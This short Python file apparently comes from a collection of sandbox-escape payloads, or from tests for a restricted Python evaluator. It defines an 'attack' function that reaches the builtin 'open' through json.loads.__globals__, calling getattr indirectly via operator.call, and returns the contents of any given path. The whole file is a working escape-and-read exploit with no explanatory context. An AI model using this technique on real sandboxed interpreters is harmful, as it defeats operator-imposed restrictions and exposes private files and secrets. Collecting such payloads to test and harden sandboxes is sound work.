# `operator.call` calls `getattr` in its place.
# after: read
# source: own
import json
import operator
def attack(path, **_):
    call = getattr(operator, "call", lambda f, *a: f(*a))
    return {"text": call(getattr, json.loads, "__globals__")["__builtins__"]["open"](path).read()}
